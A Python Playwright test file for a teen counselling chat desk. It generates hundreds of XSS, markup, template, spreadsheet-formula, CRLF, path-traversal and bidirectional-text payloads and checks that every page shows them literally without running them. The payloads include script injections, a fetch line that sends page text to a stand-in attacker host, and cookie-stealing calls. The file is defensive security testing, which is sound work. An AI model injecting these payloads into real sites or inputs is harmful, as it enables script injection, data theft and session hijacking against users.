"""Markup, script, formula and bidi payloads through everything the desk shows: none runs, all are shown as they are written."""

from __future__ import annotations

import re
import uuid
from dataclasses import replace

import pytest
from desk_browser import WIDE, Counter
from desk_world import DeskWorld, asks_for_a_person, teenager
from playwright.async_api import Browser, expect

from channels.desk.canned import Canned
from channels.desk.context import DESK
from channels.store import Body
from kernel.language import Language
from kernel.role import Role
from kernel.urgency import Urgency

pytestmark = pytest.mark.asyncio(loop_scope="session")


def payloads() -> list[str]:
    """What would run, break out, or read other than it is written, if anything treated text as more than text."""
    calls = ("alert(1)", "alert`1`", "top.alert(document.cookie)", "fetch('//evil.example/'+document.body.innerText)")
    shapes = (
        "<script>{}</script>", "<img src=x onerror={}>", "\"><svg onload={}>", "'><body onload={}>", "<iframe src=javascript:{}>",
        "<a href=javascript:{}>x</a>", "</textarea><script>{}</script>", "</title><script>{}</script>", "<details open ontoggle={}>",
        "{{{{{}}}}}", "${{{}}}", "<!--<script>{}//-->", "]]><script>{}</script>", "<math><mi xlink:href=javascript:{}>", "javascript:{}",
        "</template><script>{}</script>", "\"autofocus onfocus={} x=\"", "<style>@import '//evil.example/{}'</style>", "[x](javascript:{})",
        "&lt;script&gt;{}&lt;/script&gt;", "\u2028<script>{}</script>", "{{% raw %}}{}", "<base href=//evil.example>{}", "<b>{}</b>",
        "<form action=//evil.example><button>{}</button></form>", "<input autofocus onfocus={}>", "<object data=javascript:{}>",
        "<meta http-equiv=refresh content=0;url=javascript:{}>", "=HYPERLINK(\"//evil.example\",\"{}\")", "@SUM({})",
    )  # fmt: skip
    around = ("{}", "help {} nu", "\u202e{}\u202c", "regel een\n{}")
    bidi = [
        "abc\u202egpj.exe", "\u2066<b>\u2069", "a\u200bb", "\u200fعربي", "naam\u0000x", "=1+1", "+32 470", "-1+1", "\ufeff=1", "%0d%0aSet-Cookie: x=1",
        "../../etc/passwd", "😀👩\u200d👩\u200d👧", "e\u0301" * 50, "\u061c<i>", "\U000e0041tag", "🏳\ufe0f\u200d🌈", "a" * 1900, "\u115f", "\u3164", "\\u003cscript>",
    ]  # fmt: skip
    return [outer.format(shape.format(call)) for outer in around for shape in shapes for call in calls] + bidi


HIDDEN = re.compile("[\u202e\u202c\u2066\u2069\u200b\u200f\u2028\u0000\ufeff\u061c\U000e0041]")


def literally(text: str) -> str:
    """As the page must show it: the same characters, the invisible ones named."""
    return HIDDEN.sub(lambda found: f"⟨U+{ord(found[0]):04X}⟩", text)


async def test_payloads_are_shown_as_they_are_written(world: DeskWorld, chromium: Browser) -> None:
    an = await world.staff("An", Role.COUNSELLOR)
    lead = await world.staff("<img src=x onerror=alert(1)>", Role.LEAD)
    found = payloads()
    assert len(set(found)) == len(found) >= 500
    chat = await teenager(world, "nl", "iemand dreigt met mijn naaktfoto", "<script>alert(1)</script> help mij nu even")
    case_id = await asks_for_a_person(chat, "<img src=x onerror=alert(2)>")
    await an.post(f"/cases/{case_id}/claim")
    conversation_id = (await world.store.escalations.get(case_id)).conversation_id or ""
    counter = await Counter.of(chromium, an, **WIDE)
    page = await counter.open(f"/cases/{case_id}")
    for text in found[::5]:
        await world.hub.relay.escalations.say(case_id, an.id, str(uuid.uuid4()), text)
    for text in found[:8]:  # through the teenager's own socket, which has a limit
        await chat.send(type="say", id=str(uuid.uuid4()), text=text)
    await an.post(f"/cases/{case_id}/note", text="</p><script>alert(3)</script>")
    await expect(page.locator("#talk .said.counsellor")).to_have_count(len(found[::5]))
    await expect(page.locator("#talk .said.teenager")).to_have_count(8)
    live = await page.locator("#talk .said.counsellor .text").all_text_contents()
    assert live == [literally(text) for text in found[::5]], "what the script shows"
    for text in found[8:]:
        await world.store.messages.accept(conversation_id, str(uuid.uuid4()), Body(text), Urgency.NONE)
    await counter.open(f"/cases/{case_id}")
    stored = await page.locator("#talk .said.teenager .text").all_text_contents()
    assert sorted(stored) == sorted(literally(text) for text in found), "what the server shows"
    assert await page.locator("main script, main img, main iframe, main base, main object, #talk b, #talk form").count() == 0
    body = await page.inner_text("main")
    assert (
        "<script>alert(1)</script> help mij" in body and "<img src=x onerror=alert(2)>" in body and "</p><script>alert(3)</script>" in body
    )
    await an.post(f"/cases/{case_id}/close", outcome="step", remark="".join(found[:12]))
    await counter.open(f"/cases/{case_id}")
    assert literally("".join(found[:12])) in await page.inner_text("main")
    await counter.close()
    other = await Counter.of(chromium, lead, **WIDE)
    for path in ("/queue", f"/cases/{case_id}", "/audit", "/me"):
        page = await other.open(path)
        assert "<img src=x onerror=alert(1)>" in await page.inner_text("body"), path
        assert await page.locator("img").count() == 0
    await other.close()
    await chat.close()


async def test_payloads_as_canned_replies(world: DeskWorld, chromium: Browser) -> None:
    an = await world.staff("An", Role.COUNSELLOR)
    found = [text for text in payloads() if "\n" not in text and len(text) < 1000][:60]
    canned = tuple(Canned(f"k{place}", dict.fromkeys(Language, text)) for place, text in enumerate(found))
    assert world.app is not None
    world.app._state[DESK] = replace(world.parts, canned=canned)  # the running site's own parts, with other replies
    chat = await teenager(world, "nl", "iemand dreigt met mijn naaktfoto")
    case_id = await asks_for_a_person(chat)
    await an.post(f"/cases/{case_id}/claim")
    counter = await Counter.of(chromium, an, **WIDE)
    page = await counter.open(f"/cases/{case_id}")
    await page.click("#canned-open")
    for place in (0, 7, 31, 59):
        await page.locator("#canned-list [role=option]").nth(place).click()
        assert await page.input_value("#text") == found[place]
        await page.fill("#text", "")
        await page.click("#canned-open")
    assert await page.locator("#canned-list img, #canned-list script, #canned-list svg, #canned-list iframe").count() == 0
    await chat.close()
    await counter.close()
